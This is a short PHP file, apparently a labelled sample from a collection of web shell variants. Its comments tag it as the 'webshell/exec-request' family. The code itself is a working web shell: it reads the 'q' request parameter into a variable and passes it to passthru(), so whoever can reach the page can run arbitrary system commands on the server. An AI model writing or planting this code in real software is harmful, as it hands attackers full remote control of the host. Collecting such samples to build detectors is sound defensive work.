<?php
// Family: webshell/exec-request
// Style: passthru via an intermediate variable
// Trait: request value stored first, then passed to passthru
$command = $_REQUEST['q'];
passthru($command);
